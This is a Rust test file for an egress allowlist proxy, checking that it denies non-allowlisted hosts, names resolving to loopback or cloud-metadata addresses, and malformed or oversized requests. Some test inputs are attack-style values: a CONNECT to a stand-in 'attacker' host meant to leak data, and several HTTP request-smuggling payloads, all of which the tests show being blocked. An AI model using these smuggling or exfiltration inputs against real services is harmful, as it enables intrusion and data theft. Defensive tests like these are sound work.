//! End-to-end tests of the proxy. Loopback addresses only; names resolve through fakes.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use kiln_egress::{listen_tcp, serve_connection, Decision, Limits, Policy, ProxyContext, Resolve, ResolveFuture, StaticResolver};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

const LOCAL: [u8; 4] = [127, 0, 0, 1];

fn ctx(allow: &[String], resolver: impl Resolve + 'static, limits: Limits) -> Arc<ProxyContext> {
    Arc::new(ProxyContext::new(Policy::parse(allow).unwrap(), Arc::new(resolver), limits))
}

/// A resolver that counts calls and fails: for tests where nothing may be resolved.
#[derive(Default)]
struct Counting(AtomicUsize);

impl Resolve for Counting {
    fn resolve<'a>(&'a self, host: &'a str) -> ResolveFuture<'a> {
        self.0.fetch_add(1, Ordering::SeqCst);
        Box::pin(async move { Err(io::Error::new(io::ErrorKind::NotFound, host.to_string())) })
    }
}

/// A destination that counts accepted connections and serves each with `f`.
struct Target {
    addr: SocketAddr,
    accepted: Arc<AtomicUsize>,
}

async fn target<F, Fut>(f: F) -> Target
where
    F: Fn(TcpStream) -> Fut + Send + Sync + 'static,
    Fut: std::future::Future<Output = ()> + Send + 'static,
{
    let listener = TcpListener::bind(SocketAddr::from((LOCAL, 0))).await.unwrap();
    let addr = listener.local_addr().unwrap();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = accepted.clone();
    tokio::spawn(async move {
        while let Ok((s, _)) = listener.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(f(s));
        }
    });
    Target { addr, accepted }
}

async fn echo_target() -> Target {
    target(|mut s| async move {
        let (mut r, mut w) = s.split();
        let _ = tokio::io::copy(&mut r, &mut w).await;
        let _ = w.shutdown().await;
    })
    .await
}

/// An HTTP server answering every request with `hello`; stores each request head it got.
async fn http_target(heads: Arc<Mutex<Vec<String>>>) -> Target {
    target(move |mut s| {
        let heads = heads.clone();
        async move {
            let mut buf = Vec::new();
            let mut chunk = [0u8; 1024];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut chunk).await {
                    Ok(0) | Err(_) => return,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            heads.lock().unwrap().push(String::from_utf8_lossy(&buf).into_owned());
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello").await;
            let _ = s.shutdown().await;
        }
    })
    .await
}

async fn proxy(ctx: Arc<ProxyContext>) -> SocketAddr {
    listen_tcp(SocketAddr::from((LOCAL, 0)), ctx).await.unwrap().0
}

/// Sends `request` to the proxy and reads everything it answers until it closes.
async fn exchange(proxy: SocketAddr, request: &[u8]) -> String {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    s.write_all(request).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out)).await.expect("proxy did not close").unwrap();
    String::from_utf8_lossy(&out).into_owned()
}

/// Waits until the log holds `n` attempts (they are recorded when a connection ends).
async fn wait_log(ctx: &ProxyContext, n: usize) {
    for _ in 0..500 {
        if ctx.log.len() >= n {
            return;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    panic!("log has {} attempts, wanted {n}", ctx.log.len());
}

#[tokio::test]
async fn plain_http_through_the_proxy() {
    let heads = Arc::new(Mutex::new(Vec::new()));
    let t = http_target(heads.clone()).await;
    let port = t.addr.port();
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), Limits::default());
    let p = proxy(ctx.clone()).await;
    let req = format!("GET http://127.0.0.1:{port}/x HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nProxy-Authorization: Basic eA==\r\nProxy-Connection: keep-alive\r\nUser-Agent: test\r\n\r\n");
    let resp = exchange(p, req.as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 200 OK\r\n"), "{resp}");
    assert!(resp.ends_with("\r\n\r\nhello"), "{resp}");
    let sent = format!("GET /x HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUser-Agent: test\r\nConnection: close\r\n\r\n");
    assert_eq!(heads.lock().unwrap().clone(), vec![sent.clone()]);

    wait_log(&ctx, 1).await;
    let a = &ctx.log.snapshot().attempts[0];
    assert_eq!((a.method.as_str(), a.host.as_str(), a.port, a.allowed, &a.reason), ("GET", "127.0.0.1", port, true, &None));
    assert_eq!(a.bytes_up, sent.len() as u64);
    assert_eq!(a.bytes_down, resp.len() as u64);
    assert_eq!(ctx.bytes_total(), a.bytes_up + a.bytes_down);
    assert!(a.started_unix_ms > 1_600_000_000_000);
}

#[tokio::test]
async fn connect_tunnel_counts_bytes() {
    let t = echo_target().await;
    let port = t.addr.port();
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), Limits::default());
    let p = proxy(ctx.clone()).await;

    let mut s = TcpStream::connect(p).await.unwrap();
    // Some clients send their first bytes (a TLS ClientHello) without waiting for the 200.
    let mut req = format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n").into_bytes();
    req.extend_from_slice(b"early");
    s.write_all(&req).await.unwrap();
    let established = b"HTTP/1.1 200 Connection Established\r\n\r\n";
    let mut got = vec![0u8; established.len()];
    s.read_exact(&mut got).await.unwrap();
    assert_eq!(got, established);

    let payload: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    let (mut r, mut w) = s.into_split();
    let writer = tokio::spawn(async move {
        w.write_all(&payload).await.unwrap();
        w.shutdown().await.unwrap();
        payload
    });
    let mut echoed = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), r.read_to_end(&mut echoed)).await.unwrap().unwrap();
    let payload = writer.await.unwrap();
    assert_eq!(&echoed[..5], b"early");
    assert_eq!(&echoed[5..], &payload[..]);

    wait_log(&ctx, 1).await;
    let a = &ctx.log.snapshot().attempts[0];
    assert_eq!((a.method.as_str(), a.allowed, &a.reason), ("CONNECT", true, &None));
    assert_eq!((a.bytes_up, a.bytes_down), (200_005, 200_005));
    assert_eq!(t.accepted.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn denied_host_gets_403_and_nothing_connects() {
    let t = echo_target().await;
    let port = t.addr.port();
    let resolver = Arc::new(Counting::default());
    // Allowed: another port, and a name. Not 127.0.0.1:port.
    let ctx = ctx(&[format!("127.0.0.1:{}", port.wrapping_add(1).max(1)), "example.com".into()], resolver.clone(), Limits::default());
    let p = proxy(ctx.clone()).await;

    let resp = exchange(p, format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n").as_bytes()).await;
    let body = format!("kiln egress: 127.0.0.1:{port} is not allowed (not in the allowlist); allow it with --allow 127.0.0.1:{port}\n");
    assert!(resp.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{resp}");
    assert!(resp.contains(&format!("Content-Length: {}\r\n", body.len())), "{resp}");
    assert!(resp.ends_with(&format!("\r\n\r\n{body}")), "{resp}");

    let resp = exchange(p, format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\n").as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{resp}");
    assert!(resp.ends_with(&format!("\r\n\r\n{body}")), "{resp}");

    // A name nobody allowed is not even resolved (no DNS exfiltration).
    let resp = exchange(p, b"CONNECT secret-data.attacker.test:443 HTTP/1.1\r\n\r\n").await;
    assert!(resp.ends_with("kiln egress: secret-data.attacker.test:443 is not allowed (not in the allowlist); allow it with --allow secret-data.attacker.test:443\n"), "{resp}");
    let resp = exchange(p, format!("CONNECT [::1]:{port} HTTP/1.1\r\n\r\n").as_bytes()).await;
    assert!(resp.ends_with(&format!("kiln egress: [::1]:{port} is not allowed (not in the allowlist); allow it with --allow [::1]:{port}\n")), "{resp}");
    assert_eq!(resolver.0.load(Ordering::SeqCst), 0);

    wait_log(&ctx, 4).await;
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(t.accepted.load(Ordering::SeqCst), 0);
    let log = ctx.log.snapshot();
    assert!(log.attempts.iter().all(|a| !a.allowed && a.reason.as_deref() == Some("not in the allowlist") && a.bytes_up == 0 && a.bytes_down == 0));
    assert_eq!(log.attempts.iter().map(|a| a.host.as_str()).collect::<Vec<_>>(), vec!["127.0.0.1", "127.0.0.1", "secret-data.attacker.test", "::1"]);
}

#[tokio::test]
async fn allowed_name_resolving_to_internal_address_is_denied() {
    let t = echo_target().await;
    let port = t.addr.port();
    let resolver = StaticResolver::new().with("build.example.com", &[IpAddr::from(LOCAL)]).with("meta.example.com", &["169.254.169.254".parse().unwrap()]);
    let ctx = ctx(&[format!("build.example.com:{port}"), format!("meta.example.com:{port}")], resolver, Limits::default());
    let p = proxy(ctx.clone()).await;

    let resp = exchange(p, format!("CONNECT build.example.com:{port} HTTP/1.1\r\n\r\n").as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{resp}");
    assert!(
        resp.ends_with(&format!("kiln egress: build.example.com:{port} is not allowed (build.example.com resolves to 127.0.0.1 (loopback), not a public address: a name may lead to a non-public address only if that exact address is allowed too); allow it with --allow 127.0.0.1:{port}\n")),
        "{resp}"
    );
    let resp = exchange(p, format!("GET http://meta.example.com:{port}/latest/meta-data/ HTTP/1.1\r\n\r\n").as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{resp}");
    assert!(resp.contains("169.254.169.254 (cloud metadata)"), "{resp}");

    wait_log(&ctx, 2).await;
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(t.accepted.load(Ordering::SeqCst), 0);
    assert!(ctx.log.snapshot().attempts.iter().all(|a| !a.allowed));

    // Allowing the exact address as well lets the name through.
    let resolver = StaticResolver::new().with("build.example.com", &[IpAddr::from(LOCAL)]);
    let ctx2 = self::ctx(&[format!("build.example.com:{port}"), format!("127.0.0.1:{port}")], resolver, Limits::default());
    let p2 = proxy(ctx2).await;
    let mut s = TcpStream::connect(p2).await.unwrap();
    s.write_all(format!("CONNECT build.example.com:{port} HTTP/1.1\r\n\r\nping").as_bytes()).await.unwrap();
    let mut got = vec![0u8; 39 + 4];
    s.read_exact(&mut got).await.unwrap();
    assert_eq!(got, b"HTTP/1.1 200 Connection Established\r\n\r\nping");
    assert_eq!(t.accepted.load(Ordering::SeqCst), 1);
}

#[test]
fn allowed_name_resolving_to_public_address_is_allowed() {
    let policy = Policy::parse(&["registry.example.com".to_string()]).unwrap();
    let public: Vec<IpAddr> = vec!["93.184.216.34".parse().unwrap(), "2606:2800:220:1:248:1893:25c8:1946".parse().unwrap()];
    assert_eq!(policy.decide("registry.example.com", 443, &public), Decision::Allow);
    assert!(matches!(policy.decide("registry.example.com", 8443, &public), Decision::Deny(_)));
    let mixed: Vec<IpAddr> = vec!["93.184.216.34".parse().unwrap(), "10.0.0.1".parse().unwrap()];
    assert!(matches!(policy.decide("registry.example.com", 443, &mixed), Decision::Deny(_)));
}

#[tokio::test]
async fn resolution_failure_is_502() {
    let resolver = Arc::new(Counting::default());
    let ctx = ctx(&["example.com".into()], resolver.clone(), Limits::default());
    let (mut client, server) = tokio::io::duplex(4096);
    let served = tokio::spawn(async move { serve_connection(server, &ctx).await });
    client.write_all(b"CONNECT example.com:443 HTTP/1.1\r\n\r\n").await.unwrap();
    let mut out = String::new();
    client.read_to_string(&mut out).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 502 Bad Gateway\r\n"), "{out}");
    assert!(out.contains("could not resolve example.com"), "{out}");
    let summary = served.await.unwrap();
    assert_eq!(summary.status, Some(502));
    assert_eq!(resolver.0.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn connect_failure_is_502() {
    // A port nothing listens on: bind one, then close it.
    let port = TcpListener::bind(SocketAddr::from((LOCAL, 0))).await.unwrap().local_addr().unwrap().port();
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), Limits::default());
    let p = proxy(ctx.clone()).await;
    let resp = exchange(p, format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n").as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 502 Bad Gateway\r\n"), "{resp}");
    assert!(resp.contains(&format!("could not connect to 127.0.0.1:{port}")), "{resp}");
    wait_log(&ctx, 1).await;
    let a = &ctx.log.snapshot().attempts[0];
    assert!(a.allowed);
    assert!(a.reason.as_deref().unwrap().starts_with("could not connect"), "{a:?}");
}

/// Runs one connection over an in-memory stream (as the tunnel would) and returns the answer.
async fn over_duplex(ctx: &ProxyContext, input: &[u8]) -> (String, kiln_egress::ConnSummary) {
    let (mut client, server) = tokio::io::duplex(64 * 1024);
    let serving = serve_connection(server, ctx);
    let talking = async {
        let _ = client.write_all(input).await;
        let _ = client.shutdown().await;
        let mut out = Vec::new();
        let _ = client.read_to_end(&mut out).await;
        out
    };
    let (summary, out) = tokio::join!(serving, talking);
    (String::from_utf8_lossy(&out).into_owned(), summary)
}

#[tokio::test]
async fn malformed_requests_get_400() {
    let ctx = ctx(&["example.com".into()], Counting::default(), Limits::default());
    let cases: &[&[u8]] = &[
        b"hello\r\n\r\n",
        b"GET /x HTTP/1.1\r\nHost: example.com\r\n\r\n",
        b"GET https://example.com/ HTTP/1.1\r\n\r\n",
        b"CONNECT example.com HTTP/1.1\r\n\r\n",
        b"CONNECT example.com:99999 HTTP/1.1\r\n\r\n",
        b"GET http://example.com/ HTTP/1.1\r\nBad Header\r\n\r\n",
        b"GET http://example.com/ SPDY/3\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        b"GET http://example.com/ HTTP/1.1\r\n", // closed mid-head
    ];
    for case in cases {
        let (out, summary) = over_duplex(&ctx, case).await;
        assert!(out.starts_with("HTTP/1.1 400 Bad Request\r\n"), "{:?}: {out}", String::from_utf8_lossy(case));
        assert!(out.contains("kiln egress: "), "{out}");
        assert_eq!(summary.status, Some(400));
        let a = summary.attempt.unwrap();
        assert!(!a.allowed && a.reason.is_some());
    }
    // A client that says nothing is neither answered nor logged.
    let n = ctx.log.len();
    let (out, summary) = over_duplex(&ctx, b"").await;
    assert_eq!((out.as_str(), summary.status, summary.attempt), ("", None, None));
    assert_eq!(ctx.log.len(), n);
}

#[tokio::test]
async fn oversized_head_gets_431() {
    let ctx = ctx(&["example.com".into()], Counting::default(), Limits::default());
    let mut req = b"GET http://example.com/ HTTP/1.1\r\n".to_vec();
    for i in 0..400 {
        req.extend_from_slice(format!("X-Filler-{i}: {}\r\n", "a".repeat(40)).as_bytes());
    }
    req.extend_from_slice(b"\r\n");
    assert!(req.len() > 16 * 1024);
    let (out, summary) = over_duplex(&ctx, &req).await;
    assert!(out.starts_with("HTTP/1.1 431 Request Header Fields Too Large\r\n"), "{out}");
    assert_eq!(summary.status, Some(431));

    // Endless head without a line end.
    let (out, _) = over_duplex(&ctx, &vec![b'A'; 40 * 1024]).await;
    assert!(out.starts_with("HTTP/1.1 431 "), "{out}");
}

#[tokio::test]
async fn slow_head_gets_408() {
    let limits = Limits { head_timeout: Duration::from_millis(200), ..Limits::default() };
    let ctx = ctx(&["example.com".into()], Counting::default(), limits);
    let (mut client, server) = tokio::io::duplex(4096);
    let serving = serve_connection(server, &ctx);
    let talking = async {
        client.write_all(b"CONNECT example.com:443 HTTP/1.1\r\n").await.unwrap();
        let mut out = String::new();
        client.read_to_string(&mut out).await.unwrap();
        out
    };
    let (summary, out) = tokio::join!(serving, talking);
    assert!(out.starts_with("HTTP/1.1 408 Request Timeout\r\n"), "{out}");
    assert_eq!(summary.status, Some(408));
}

#[tokio::test]
async fn per_connection_byte_limit_closes_the_connection() {
    let t = echo_target().await;
    let port = t.addr.port();
    let limits = Limits { max_bytes_per_conn: 10_000, ..Limits::default() };
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), limits);
    let p = proxy(ctx.clone()).await;

    let mut s = TcpStream::connect(p).await.unwrap();
    s.write_all(format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
    let mut established = vec![0u8; 39];
    s.read_exact(&mut established).await.unwrap();
    // Send in small steps and read the echo, so that both directions count.
    let mut echoed = 0;
    let mut closed = false;
    for _ in 0..100 {
        if s.write_all(&[7u8; 1000]).await.is_err() {
            closed = true;
            break;
        }
        let mut buf = [0u8; 1000];
        match tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf)).await.unwrap() {
            Ok(0) | Err(_) => {
                closed = true;
                break;
            }
            Ok(n) => echoed += n,
        }
    }
    assert!(closed, "connection not closed after {echoed} bytes echoed");
    wait_log(&ctx, 1).await;
    let a = &ctx.log.snapshot().attempts[0];
    assert!(a.allowed);
    assert_eq!(a.reason.as_deref(), Some("closed at the per-connection limit of 10000 bytes"), "{a:?}");
    assert_eq!(a.bytes_up + a.bytes_down, 10_000, "{a:?}");
    assert!(echoed as u64 <= a.bytes_down, "{a:?}");
}

#[tokio::test]
async fn sandbox_byte_limit_spans_connections() {
    let t = echo_target().await;
    let port = t.addr.port();
    let limits = Limits { max_bytes_total: 3_000, ..Limits::default() };
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), limits);
    let p = proxy(ctx.clone()).await;
    // 1000 up + 1000 down: fine.
    let mut req = format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n").into_bytes();
    req.extend_from_slice(&[1u8; 1000]);
    let mut s = TcpStream::connect(p).await.unwrap();
    s.write_all(&req).await.unwrap();
    s.shutdown().await.unwrap();
    let mut out = Vec::new();
    s.read_to_end(&mut out).await.unwrap();
    assert_eq!(out.len(), 39 + 1000);
    // Next: 1000 up, then the budget is gone after 1000 down... of which only 0 remain.
    let mut s = TcpStream::connect(p).await.unwrap();
    s.write_all(&req).await.unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out).await;
    wait_log(&ctx, 2).await;
    assert_eq!(ctx.bytes_total(), 3_000);
    let log = ctx.log.snapshot();
    assert_eq!(log.attempts[1].reason.as_deref(), Some("closed at the sandbox's egress limit of 3000 bytes"));
    // Then nothing more is let through at all.
    let resp = exchange(p, format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n").as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 429 "), "{resp}");
}

#[tokio::test]
async fn idle_connection_is_closed() {
    let t = echo_target().await;
    let port = t.addr.port();
    let limits = Limits { idle_timeout: Duration::from_millis(300), ..Limits::default() };
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), limits);
    let p = proxy(ctx.clone()).await;
    let mut s = TcpStream::connect(p).await.unwrap();
    s.write_all(format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\nhi").as_bytes()).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out)).await.expect("idle connection kept open").unwrap();
    assert!(out.ends_with(b"\r\n\r\nhi"));
    wait_log(&ctx, 1).await;
    let a = &ctx.log.snapshot().attempts[0];
    assert!(a.reason.as_deref().unwrap().contains("idle timeout"), "{a:?}");
    assert_eq!((a.bytes_up, a.bytes_down), (2, 2));
}

#[tokio::test]
async fn log_serializes_for_the_report() {
    let ctx = ctx(&[], Counting::default(), Limits::default());
    over_duplex(&ctx, b"CONNECT example.com:443 HTTP/1.1\r\n\r\n").await;
    let json = serde_json::to_value(ctx.log.snapshot()).unwrap();
    assert_eq!(json["dropped"], 0);
    assert_eq!(json["attempts"][0]["host"], "example.com");
    assert_eq!(json["attempts"][0]["allowed"], false);
    assert_eq!(json["attempts"][0]["reason"], "not in the allowlist");
}

/// A destination that records every byte it receives (until the sender stops for a while)
/// and then answers once.
async fn recording_target(got: Arc<Mutex<Vec<u8>>>) -> Target {
    target(move |mut s| {
        let got = got.clone();
        async move {
            let mut chunk = [0u8; 4096];
            while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(300), s.read(&mut chunk)).await {
                if n == 0 {
                    break;
                }
                got.lock().unwrap().extend_from_slice(&chunk[..n]);
            }
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok").await;
            let _ = s.shutdown().await;
        }
    })
    .await
}

/// Request smuggling through an allowed address: a second request after the first one's
/// body (with a Host of the guest's choosing), a `Connection` header that would make the proxy
/// drop `Content-Length`, and a chunked body the proxy cannot frame. The destination sees
/// exactly one request, with its body, and nothing else.
#[tokio::test]
async fn attack_guest_smuggles_a_second_request_through_an_allowed_address() {
    let got = Arc::new(Mutex::new(Vec::new()));
    let t = recording_target(got.clone()).await;
    let port = t.addr.port();
    let ctx = ctx(&[format!("127.0.0.1:{port}")], Counting::default(), Limits::default());
    let p = proxy(ctx.clone()).await;
    let smuggled = "GET /admin HTTP/1.1\r\nHost: internal.example\r\n\r\n";
    let req = format!("POST http://127.0.0.1:{port}/up HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 5\r\n\r\nhello{smuggled}");
    let resp = exchange(p, req.as_bytes()).await;
    assert!(resp.starts_with("HTTP/1.1 200 OK\r\n"), "{resp}");
    let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
    assert!(seen.ends_with("\r\n\r\nhello"), "{seen}");
    assert!(!seen.contains("/admin") && !seen.contains("internal.example"), "smuggled: {seen}");

    for (head, code) in [
        (format!("POST http://127.0.0.1:{port}/ HTTP/1.1\r\nContent-Length: 5\r\nConnection: Content-Length\r\n\r\nhello{smuggled}"), "400"),
        (format!("POST http://127.0.0.1:{port}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n{smuggled}"), "411"),
        (format!("POST http://127.0.0.1:{port}/ HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello{smuggled}"), "400"),
        (format!("POST http://127.0.0.1:{port}/ HTTP/1.1\r\nContent-Length: +5\r\n\r\nhello"), "400"),
    ] {
        let before = t.accepted.load(Ordering::SeqCst);
        let resp = exchange(p, head.as_bytes()).await;
        assert!(resp.starts_with(&format!("HTTP/1.1 {code} ")), "{head:?}: {resp}");
        assert_eq!(t.accepted.load(Ordering::SeqCst), before, "{head:?} reached the destination");
    }
}
